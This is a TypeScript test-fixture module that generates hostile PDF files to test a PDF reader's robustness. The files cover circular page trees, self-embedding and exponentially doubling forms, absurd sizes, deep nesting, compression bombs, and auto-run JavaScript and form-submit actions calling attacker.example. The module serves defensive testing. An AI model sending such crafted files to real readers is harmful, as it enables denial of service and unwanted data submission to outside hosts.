import { latin1, PdfObjects } from "./pdf-objects.js";
import { bomb } from "./viewer-bombs.js";

type Bytes = Uint8Array<ArrayBuffer>;

const words = "BT /R 20 Tf 72 700 Td (The heliostat field has 4212 mirrors.) Tj ET";

/**
 * A valid file with many features to damage: text, a form, a note, a bookmark, and a nested form.
 */
export function soundPdf(): Bytes {
  const objects = new PdfObjects();
  const inner = objects.stream("BT /R 9 Tf 5 5 Td (inside) Tj ET", form("[0 0 90 20]"));
  const outer = objects.stream("/I Do", form("[0 0 90 20]", `/XObject << /I ${inner} 0 R >>`));
  const field = objects.add(
    "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Sunfield) /DA (/R 9 Tf) /Rect [72 600 200 620] >>",
  );
  const note = objects.add(
    "<< /Type /Annot /Subtype /Text /Contents (a note) /Rect [300 600 320 620] >>",
  );
  const outline = objects.reserve();
  const entry = objects.add(`<< /Title (One) /Parent ${outline} 0 R /Dest [0 /Fit] >>`);
  objects.add(`<< /First ${entry} 0 R /Last ${entry} 0 R /Count 1 >>`, outline);
  return bomb(objects, {
    pages: [
      {
        content: `${words} q 1 0 0 1 72 500 cm /O Do Q`,
        annotations: [field, note],
        resources: `/XObject << /O ${outer} 0 R >>`,
      },
      { content: words },
    ],
    catalog: `/Outlines ${outline} 0 R /AcroForm << /Fields [${field} 0 R] >> /PageLabels << /Nums [0 << /S /r >>] >>`,
  });
}

function form(box: string, resources = ""): string {
  return `/Type /XObject /Subtype /Form /BBox ${box} /Resources << ${resources} >> `;
}

/** Files made to send a reader into an endless loop, or to exhaust memory. */
export async function hostilePdfs(): Promise<Readonly<Record<string, Bytes>>> {
  return {
    "page-tree-in-itself.pdf": raw([
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Count 3 /Kids [2 0 R 3 0 R] /Parent 2 0 R >>",
      "<< /Type /Pages /Count 2 /Kids [2 0 R 3 0 R] /Parent 2 0 R >>",
    ]),
    "form-in-itself.pdf": formInItself(),
    "forms-that-double.pdf": doublingForms(24),
    "a-billion-pages.pdf": raw([
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Count 1000000000 /Kids [] >>",
    ]),
    "huge-numbers.pdf": latin1(
      text(soundPdf())
        .replace(/\/Size \d+/, "/Size 99999999999999")
        .replace(/startxref\n\d+/, "startxref\n99999999999999")
        .replaceAll(/\d{10} 00000 n/g, "9999999999 65535 n")
        .replaceAll(/\/Length \d+/g, "/Length 2147483647"),
    ),
    "xref-in-itself.pdf": latin1(
      text(soundPdf()).replace(/trailer\n<< /, "trailer\n<< /Prev 9 /XRefStm 9 "),
    ),
    "object-stream-in-itself.pdf": objectStreamInItself(),
    "nested-brackets.pdf": raw([
      "<< /Type /Catalog /Pages 2 0 R >>",
      `<< /Type /Pages /Count 1 /Kids ${"[".repeat(50_000)}${"]".repeat(50_000)} >>`,
    ]),
    "bookmarks-in-themselves.pdf": raw([
      "<< /Type /Catalog /Pages 2 0 R /Outlines 3 0 R >>",
      "<< /Type /Pages /Count 0 /Kids [] >>",
      "<< /First 4 0 R /Last 4 0 R /Count 1 >>",
      "<< /Title (again) /Parent 3 0 R /Next 4 0 R /First 3 0 R /Last 4 0 R /Dest [0 /Fit] >>",
    ]),
    "long-labels.pdf": bomb(new PdfObjects(), {
      pages: Array.from({ length: 200 }, () => ({ content: words })),
      catalog: `/PageLabels << /Nums [0 << /P (${"x".repeat(20_000)}) >>] >>`,
    }),
    "bomb-1000-to-1.pdf": await deflated(1, 40),
    "bomb-in-a-bomb.pdf": await deflated(2, 120),
    "run-scripts.pdf": bomb(new PdfObjects(), {
      pages: [{ content: words }],
      catalog:
        "/OpenAction << /S /JavaScript /JS (globalThis.attacked = true; app.alert\\(1\\)) >> /AA << /WC << /S /URI /URI (https://attacker.example/closed) >> >> /URI << /Base (https://attacker.example/) >>",
    }),
    "submits-itself.pdf": raw([
      "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F (https://attacker.example/form) >> >>",
      "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents << /F (https://attacker.example/contents) >> /AA << /O << /S /GoToR /F (https://attacker.example/x.pdf) >> >> >>",
    ]),
  };
}

function raw(objects: readonly string[]): Bytes {
  const file = new PdfObjects();
  for (const object of objects) file.add(object);
  return file.file(1);
}

function formInItself(): Bytes {
  const objects = new PdfObjects();
  const number = objects.reserve();
  const content = "/X Do /X Do";
  const entries = form("[0 0 99 99]", `/XObject << /X ${number} 0 R >>`);
  objects.add(`<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`, number);
  return bomb(objects, {
    pages: [{ content: `${words} /X Do`, resources: `/XObject << /X ${number} 0 R >>` }],
  });
}

/** Each form draws the next one twice. */
function doublingForms(depth: number): Bytes {
  const objects = new PdfObjects();
  let inner = objects.stream("BT /R 1 Tf (deep) Tj ET", form("[0 0 99 99]"));
  for (let level = 0; level < depth; level++) {
    inner = objects.stream("/X Do /X Do", form("[0 0 99 99]", `/XObject << /X ${inner} 0 R >>`));
  }
  return bomb(objects, {
    pages: [{ content: `${words} /X Do`, resources: `/XObject << /X ${inner} 0 R >>` }],
  });
}

function objectStreamInItself(): Bytes {
  const inside =
    "3 0 4 30 << /Type /Pages /Count 1 /Kids [4 0 R] >> << /Type /Page /Parent 3 0 R >>";
  return raw([
    "<< /Type /Catalog /Pages 3 0 R >>",
    `<< /Type /ObjStm /N 2 /First 9 /Extends 2 0 R /Length ${inside.length} >>\nstream\n${inside}\nendstream`,
    "2 0 R",
    "4 0 R",
  ]);
}

/** A page with this many megabytes of drawing operators, compressed once or twice. */
async function deflated(times: number, megabytes: number): Promise<Bytes> {
  const line = "0 0 m 9 9 l S ".repeat(75_000);
  let content = await deflate(new Blob(Array.from({ length: megabytes }, () => line)));
  for (let again = 1; again < times; again++) content = await deflate(new Blob([content]));
  const filters = Array.from({ length: times }, () => "/FlateDecode").join(" ");
  const objects = new PdfObjects();
  const packed = objects.add(
    `<< /Length ${content.length} /Filter [${filters}] >>\nstream\n${text(content)}\nendstream`,
  );
  const tree = objects.reserve();
  const page = objects.add(
    `<< /Type /Page /Parent ${tree} 0 R /MediaBox [0 0 99 99] /Contents ${packed} 0 R >>`,
  );
  objects.add(`<< /Type /Pages /Count 1 /Kids [${page} 0 R] >>`, tree);
  return objects.file(objects.add(`<< /Type /Catalog /Pages ${tree} 0 R >>`));
}

async function deflate(blob: Blob): Promise<Bytes> {
  const packed = blob.stream().pipeThrough(new CompressionStream("deflate"));
  return new Uint8Array(await new Response(packed).arrayBuffer());
}

/** A file's bytes as characters. */
function text(bytes: Bytes): string {
  const pieces: string[] = [];
  for (let at = 0; at < bytes.length; at += 8192) {
    pieces.push(String.fromCharCode(...bytes.subarray(at, at + 8192)));
  }
  return pieces.join("");
}
